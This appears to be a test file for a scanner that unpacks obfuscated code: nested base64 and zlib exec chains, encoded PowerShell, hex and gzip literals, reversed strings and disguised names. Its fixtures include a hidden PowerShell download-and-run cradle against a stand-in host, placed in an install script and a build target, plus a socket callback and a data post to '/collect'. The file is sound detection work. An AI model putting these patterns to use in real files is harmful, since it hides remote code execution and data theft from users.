import assert from "node:assert/strict";
import { test } from "node:test";
import { deflateSync, gzipSync } from "node:zlib";
import fc from "fast-check";
import { lex } from "../languages/lex.ts";
import type { FileKind } from "../model.ts";
import { DECODE_BUDGET } from "./budget.ts";
import { decodedLayers, type Layer } from "./layers.ts";

function layers(kind: FileKind, text: string, budget = DECODE_BUDGET): Layer[] {
  return [...decodedLayers({ kind, text, tokens: lex(kind, text) }, budget)];
}

function texts(kind: FileKind, text: string): string[] {
  return layers(kind, text).map((layer) => layer.text);
}

const base64 = (text: string | Buffer) => Buffer.from(text).toString("base64");

test("each decoding inside another is a layer with its depth, the line of the outermost and the way there", () => {
  const inner = "import os\nos.system('id; ' + 'whoami')\n";
  const middle = `exec(__import__('base64').b64decode('${base64(inner)}'))`;
  const source = `import base64, zlib\n\nexec(zlib.decompress(base64.b64decode('${deflateSync(middle).toString("base64")}')))`;
  const found = layers("python", source);
  assert.deepEqual(
    found.map((layer) => [layer.depth, layer.line, layer.kind, layer.isExecuted, layer.text]),
    [
      [1, 3, "python", true, middle],
      [2, 3, "python", true, inner],
      [3, 3, "shell", true, "id; whoami"],
    ],
  );
  assert.equal(found[0]?.how, "b64decode, decompress");
  assert.equal(found[1]?.how, "b64decode, decompress; b64decode");
});

test("encoded PowerShell is read wherever it stands", () => {
  const script = "iex (New-Object Net.WebClient).DownloadString('http://x.example/a')";
  const encoded = Buffer.from(script, "utf16le").toString("base64");
  const places: readonly (readonly [FileKind, string])[] = [
    ["python", `subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand ${encoded}', shell=True)`],
    ["python", `subprocess.Popen(["powershell", "-e", "${encoded}"])`],
    ["json", `{"scripts": {"install": "powershell -enc ${encoded}"}}`],
    ["powershell", `powershell.exe -NoP -Enc ${encoded}`],
    ["batch", `@echo off\npowershell -enc ${encoded}`],
    ["msbuild", `<Project><Target Name="a"><Exec Command="powershell -enc ${encoded}" /></Target></Project>`],
  ];
  for (const [kind, source] of places) {
    const layer = layers(kind, source).find((one) => one.text === script);
    assert.equal(layer?.kind, "powershell", source);
  }
});

test("long encoded literals are tried although no decoder is seen", () => {
  const program = "import socket\ns = socket.socket()\ns.connect(('x.example', 1))\n";
  assert.deepEqual(texts("python", `x = '${base64(program)}'`), [program]);
  assert.deepEqual(texts("python", `x = '${Buffer.from(program).toString("hex")}'`), [program]);
  assert.deepEqual(texts("javascript", `x = "${base64(gzipSync(program))}"`), [program]);
  assert.deepEqual(texts("python", `x = '${base64(base64(base64(program)))}'`), [program]);
});

test("a program inside a literal keeps its kind and bytes", () => {
  const elf = Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01", "latin1"), Buffer.alloc(80, 0x90)]);
  const [layer] = layers("python", `x = '${base64(elf)}'`);
  assert.equal(layer?.kind, "executable");
  assert.equal(layer?.text, elf.toString("latin1"));
});

test("pictures, digests, identifiers and alphabets are no layers", () => {
  const picture = base64(Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), Buffer.alloc(200, 7)]));
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  assert.deepEqual(
    layers("javascript", `a = "data:image/png;base64,${picture}"; b = "${alphabet}"; c = "${"0a".repeat(32)}"`),
    [],
  );
  assert.deepEqual(
    layers("python", "import os\nclass A:\n    def run(self):\n        return os.path.join('a', self.b)\n"),
    [],
  );
});

test("texts that the code puts together are gathered in one layer", () => {
  const [layer] = layers("python", "u = 'moc.elpmaxe.x//:ptth'[::-1]\npost(u + '/collect', 'plain')");
  assert.equal(layer?.kind, "text");
  assert.deepEqual(layer?.text.split("\n"), ["http://x.example.com", "http://x.example.com/collect"]);
});

test("names written with look-alike letters, escapes, backticks or quotes are spelt plainly", () => {
  assert.ok(texts("python", "𝐞𝐱𝐞𝐜(a)\n").includes("exec(a)\n"));
  assert.ok(texts("javascript", "\\u0065val(a)").includes("eval(a)"));
  assert.ok(texts("powershell", "I`EX $a").includes("IEX $a"));
  assert.ok(texts("shell", "c''ur\\l http://x.example").includes("curl http://x.example"));
});

test("budgets bound depth, layers and characters", () => {
  let text = "import os";
  for (let at = 0; at < 9; at++)
    text = `exec('${base64(text)}'); exec(__import__('base64').b64decode('${base64(text)}'))`;
  assert.ok(Math.max(...layers("python", text).map((layer) => layer.depth)) <= 5);
  const many = Array.from({ length: 500 }, (_, at) => `exec('a${at} = 1; b = 2')`).join("\n");
  assert.equal(layers("python", many).length, DECODE_BUDGET.layers);
  const bomb = base64(gzipSync(Buffer.alloc(4 << 20, "import os\n")));
  assert.deepEqual(layers("python", `x = '${bomb}'`, { ...DECODE_BUDGET, characters: 1 << 20 }), []);
});

test("no text makes decoding throw", () => {
  const pieces = [
    "exec(",
    "eval(",
    ")",
    "'",
    "+",
    "b64decode(",
    "[::-1]",
    "chr(",
    "65",
    "join",
    ".",
    "`",
    "{",
    "}",
    "QUJDREVGRw==",
    "\\x41",
    "\n",
    ",",
    "é",
    "^",
    "atob(",
  ];
  const text = fc.array(fc.constantFrom(...pieces), { maxLength: 60 }).map((parts) => parts.join(""));
  fc.assert(
    fc.property(
      fc.constantFrom<FileKind>("python", "javascript", "powershell", "shell", "batch", "text"),
      text,
      (kind, source) => {
        for (const layer of layers(kind, source)) assert.ok(layer.depth >= 1);
      },
    ),
    { numRuns: 500 },
  );
});
